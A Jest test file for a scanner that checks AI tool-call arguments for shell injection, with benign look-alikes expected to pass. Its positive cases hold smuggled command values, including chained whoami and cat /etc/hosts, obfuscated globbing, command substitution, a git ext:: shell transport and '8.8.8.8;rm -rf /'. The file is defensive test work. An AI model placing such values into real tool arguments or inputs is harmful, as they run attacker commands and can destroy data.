import { describe, expect, it } from '@jest/globals';
import { Scanner } from '../scanner.ts';
import { shellDetectors } from './detectors.ts';

const scanner = new Scanner(shellDetectors);

describe('a command smuggled into a value', () => {
  it.each([
    ['ping_host', { host: '8.8.8.8; whoami' }],
    ['ping_host', { host: '8.8.8.8\nid' }],
    ['ping_host', { host: '8.8.8.8|id' }],
    ['ping_host', { host: "'; ls -la; '" }],
    ['ping_host', { host: '8.8.8.8 & dir C:\\' }],
    ['ping_host', { host: 'w\\ho\\am\\i' }],
    ['ping_host', { host: '8.8.8.8;/b??/c?t /e??/hosts' }],
    ['ping_host', { host: 'a=/etc&&b=cat&&$b $a' }],
    ['dns_lookup', { domain: '$(whoami).example.com' }],
    ['convert_image', { input: 'a`touch x`.png' }],
    ['compress_folder', { name: 'docs;id' }],
    ['compress_folder', { name: 'docs && cat /etc/hosts' }],
    ['create_user', { username: "bob'; ping -c 3 example.com; '" }],
    ['http_get', { url: 'https://example.com/ping?ip=192.0.2.1;cat%20/etc/hosts' }],
    ['git_clone', { url: 'ext::sh -c touch% x' }],
    ['run_report', { title: 'Sales; sleep 15' }],
  ])('%s %j', (name, toolArguments) => {
    expect(scanner.scanCall({ name, arguments: toolArguments })).toMatchObject({ threats_detected: expect.arrayContaining(['shell_injection']) as unknown });
  });

  it.each([
    ['web_search', { query: 'how to pipe grep | awk in bash' }],
    ['create_folder', { name: 'Tom & Jerry; top hits | best of' }],
    ['play_song', { title: 'Kill Bill; Sleep 10 hours', artist: 'Sleep & Echo' }],
    ['search_files', { pattern: '(ls|cat|grep)', path: 'src' }],
    ['search_files', { pattern: '\\$\\(cat .*\\)|`ls`' }],
    ['set_header', { value: 'W/"abc"; id=5; path=/; type=cat' }],
    ['open_file', { path: 'My file (copy); final & last.docx' }],
    ['open_file', { path: 'C:\\Users\\cat\\id.txt' }],
    ['open_file', { path: 'src/{date,time}/[id]/page.tsx' }],
    ['http_get', { url: 'https://example.com/?q=a;b=c&find=x&sort=date|name&top=10' }],
    ['http_get', { url: 'https://example.com/search?q=curl+%7C+bash' }],
    ['git_commit', { message: 'fix: quote $(pwd) in script; rm -rf build first' }],
    ['send_email', { body: 'AT&T; call me. Use `ls -la`; then cat & dir.' }],
    ['set_env', { name: 'PATH', value: '${HOME}/bin:$PATH' }],
  ])('is not seen in %s %j', (name, toolArguments) => {
    expect(scanner.scanCall({ name, arguments: toolArguments }).threats).toEqual([]);
  });

  it('is judged for what it would do', () => {
    expect(scanner.scanCall({ name: 'ping_host', arguments: { host: '8.8.8.8;rm -rf /' } }).threats.map(({ rule }) => rule)).toEqual(['shell.rm-vital', 'shell.chained-command']);
  });
});
